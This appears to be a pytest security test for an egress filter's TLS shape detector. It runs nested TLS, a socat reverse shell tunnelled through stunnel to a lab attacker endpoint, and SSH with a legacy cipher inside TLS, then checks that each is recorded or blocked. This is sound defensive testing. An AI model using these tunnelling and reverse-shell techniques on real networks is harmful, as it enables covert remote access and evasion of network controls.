"""TLS that a network rule passes with a bound name, run for real (issue 9, point 4): TLS carrying TLS (curl's
HTTPS inside a stunnel tunnel), TLS carrying an interactive shell (a reverse shell on a pty inside stunnel, typed
key by key by the attacker), and SSH inside TLS with a legacy cipher that hides SSH's usual packet sizes. The
front's shape watcher (egress/detect/tlsshape.py) records the first two (`tlsshape.SUSPECTED`: ordinary TLS can
take these shapes, so they are recorded, never blocked: the attacker's side shows the goal reached) and blocks
the third at SSH's opening. Judged by the record in the lab's Redis, the attacker's side and the capture
(docs/security.md, "Opaque streams")."""

from __future__ import annotations

import sys
import time
from collections.abc import Callable, Iterator

import pytest

from egress.record.schema import AttemptRecord
from tests.security.conftest import LabFactory
from tests.security.harness import SecurityLab, report
from tests.security.opaque_kit import ATTACK, POLICY, SSH_OPTIONS, SSH_SESSION, Kit, start_servers, stunnel_client

pytestmark = pytest.mark.security

OUTER = 8450
"""The attacker's TLS endpoint on the network rule's address that unwraps to a second TLS server (TLS in TLS)."""
SSH_TLS = 8443
"""opaque_kit's stunnel → sshd."""
SHELL_PORT = 8451
"""The attacker's TLS endpoint in front of its typist (a reverse shell's far end)."""
OPENING_BOUND = 4096
"""Bytes SSH inside TLS gets to the server before the watcher closes it at the opening: the TLS handshake, the
identification, KEXINIT and the key exchange's first message (lab: about 3.3-3.6 KB with OpenSSH 9.2)."""


@pytest.fixture(scope="module")
def shapes(lab_factory: LabFactory, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SecurityLab, Kit]]:
    source = POLICY.read_text()
    anchor = "ports: [8443, 8444, 8445, 8447, 8448, 8449, 8080]}"
    assert anchor in source
    policy = tmp_path_factory.mktemp("shapes") / "shapes-policy.yaml"
    policy.write_text(source.replace(anchor, anchor.replace("8080]", f"8080, {OUTER}, {SHELL_PORT}]")))
    lab = lab_factory(policy)
    kit = start_servers(lab)
    conf = kit.root / "stunnel-nested.conf"
    conf.write_text(
        "foreground = yes\npid =\ndebug = info\n"
        f"[outer]\naccept = {ATTACK}:{OUTER}\nconnect = 127.0.0.1:8452\ncert = {kit.cert}\nkey = {kit.key}\n"
        f"[inner]\naccept = 127.0.0.1:8452\nconnect = 127.0.0.1:8081\ncert = {kit.cert}\nkey = {kit.key}\n"
        f"[shell]\naccept = {ATTACK}:{SHELL_PORT}\nconnect = 127.0.0.1:8453\ncert = {kit.cert}\nkey = {kit.key}\n"
    )
    lab.attacker("stunnel-nested", ["stunnel4", str(conf)]).wait_for("Configuration successful")
    lab.attacker("typist", [sys.executable, "-c", TYPIST]).wait_for("listening")
    yield lab, kit


def bind_ssh_lab(lab: SecurityLab) -> None:
    """Resolve ssh.lab in the sandbox: binds it to 198.18.10.7 for this sandbox for its TTL (60 s in the lab), so
    each technique resolves again rather than rely on the fixture's binding."""
    lab.sandbox(["dig", "+short", "@10.203.1.1", "ssh.lab"])


def _shape_record(port: int, protocol: str) -> Callable[[list[AttemptRecord]], bool]:
    def check(records: list[AttemptRecord]) -> bool:
        return any(r.dst == ATTACK and r.dport == port and r.protocol == protocol for r in records)

    return check


def test_tls_inside_tls_with_a_bound_name_is_recorded(shapes: tuple[SecurityLab, Kit]) -> None:
    """curl speaks HTTPS to a local stunnel that wraps it again, to the attacker's TLS endpoint that unwraps the
    outer layer and hands the inner TLS to a second TLS server: the inner handshake's bursts show."""
    lab, kit = shapes
    bind_ssh_lab(lab)
    client = stunnel_client(lab, kit, "nested", 6200, f"{ATTACK}:{OUTER}", "ssh.lab")
    since = time.time()
    with lab.capture("tls-in-tls") as capture:
        argv = ["curl", "-sk", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "10"]
        done = lab.sandbox([*argv, "https://127.0.0.1:6200/"], timeout=20)
    client.stop()
    crossed = capture.result
    assert crossed is not None
    goal = done.stdout.strip() in {"200", "404"}  # the attacker's inner HTTPS server answered
    found = lab.records_until(since, _shape_record(OUTER, "tls-in-tls"))
    record = next(r for r in found if r.dport == OUTER and r.protocol == "tls-in-tls")
    report("opaque/tls-in-tls-bound-sni", "tunnel", crossed.bytes_to(ATTACK, OUTER, "tcp"), goal,
           f"{record.reason}/{record.protocol}", "recorded, not blocked (ordinary TLS can take the shape)")  # fmt: skip
    assert (str(record.reason), str(record.action)) == ("tunnel", "record"), record
    assert goal, done


TYPIST = r"""
import socket, time
listener = socket.create_server(("127.0.0.1", 8453))
print("listening", flush=True)
def read_until(conn, seen, marker, seconds):
    deadline = time.monotonic() + seconds
    while marker not in seen and time.monotonic() < deadline:
        try:
            chunk = conn.recv(4096)
        except TimeoutError:
            continue
        if not chunk:
            break
        seen += chunk
    return seen
while True:
    conn, _ = listener.accept()
    conn.settimeout(0.05)
    seen = read_until(conn, b"", b"#", 15)
    for key in b"echo typed-$((6*7))\n":  # a person at a keyboard: one key at a time, each echoed by the pty
        conn.sendall(bytes((key,)))
        seen = read_until(conn, seen, b"\x00never", 0.08)
    seen = read_until(conn, seen, b"typed-42", 10)
    print("shell", "answered" if b"typed-42" in seen else "silent", seen[-200:], flush=True)
    conn.close()
"""


def test_an_interactive_shell_inside_tls_with_a_bound_name_is_recorded(shapes: tuple[SecurityLab, Kit]) -> None:
    """A reverse shell on a terminal (socat, ``sh -i`` on a pty) inside stunnel with a bound name, typed key by key
    by the attacker at the far end: each keystroke is echoed by the sandbox's pty at once, which is the shape."""
    lab, kit = shapes
    bind_ssh_lab(lab)
    typist = next(p for p in lab.processes if p.name == "typist")
    before = len(typist.log())
    client = stunnel_client(lab, kit, "shell", 6202, f"{ATTACK}:{SHELL_PORT}", "ssh.lab")
    since = time.time()
    with lab.capture("shell-in-tls") as capture:
        shell = "EXEC:sh -i,pty,stderr,setsid,sigint,sane"
        lab.sandbox(["socat", "TCP:127.0.0.1:6202", shell], timeout=60)
    client.stop()
    crossed = capture.result
    assert crossed is not None
    goal = "shell answered" in typist.log()[before:]
    found = lab.records_until(since, _shape_record(SHELL_PORT, "interactive-shell"))
    record = next(r for r in found if r.dport == SHELL_PORT and r.protocol == "interactive-shell")
    sent = crossed.bytes_to(ATTACK, SHELL_PORT, "tcp")
    report("opaque/interactive-shell-in-tls-bound-sni", "tunnel", sent, goal, f"{record.reason}/{record.protocol}",
           "recorded, not blocked (a poller can take the shape)")  # fmt: skip
    assert (str(record.reason), str(record.action)) == ("tunnel", "record"), record
    assert goal, typist.log()[before:]


def test_ssh_with_a_legacy_cipher_inside_tls_is_blocked_at_its_opening(shapes: tuple[SecurityLab, Kit]) -> None:
    """An ssh session with a terminal inside stunnel with a bound name, with a legacy cipher and MAC (aes128-ctr,
    hmac-sha2-256: MAC-then-encrypt, packets 0 mod 16) that hide SSH's usual 4-mod-8 sizes: its clear opening
    (identification, KEXINIT, key exchange, NEWKEYS) shows it, and its first encrypted packet is not forwarded."""
    lab, kit = shapes
    bind_ssh_lab(lab)
    client = stunnel_client(lab, kit, "legacy", 6201, f"{ATTACK}:{SSH_TLS}", "ssh.lab")
    ssh = ["ssh", *SSH_OPTIONS, "-tt", "-c", "aes128-ctr", "-m", "hmac-sha2-256", "-i", str(kit.user_key),
           "-p", "6201", "root@127.0.0.1"]  # fmt: skip
    since = time.time()
    with lab.capture("ssh-legacy-in-tls") as capture:
        done = lab.sandbox_python(SSH_SESSION, *ssh, timeout=60)
    client.stop()
    crossed = capture.result
    assert crossed is not None
    goal = "shell answered" in done.stdout
    leaked = crossed.bytes_to(ATTACK, SSH_TLS, "tcp")
    reason = lab.reason_of(since, lambda r: r.dst == ATTACK and r.dport == SSH_TLS and r.protocol == "ssh-in-tls")
    report("opaque/stunnel-ssh-legacy-cipher-bound-sni", "tunnel", leaked, goal, reason,
           "bytes = TLS handshake + SSH identification and clear key exchange")  # fmt: skip
    assert not goal, done.stdout
    assert reason == "tunnel", (reason, done.stdout)
    assert leaked < OPENING_BOUND, crossed.table()
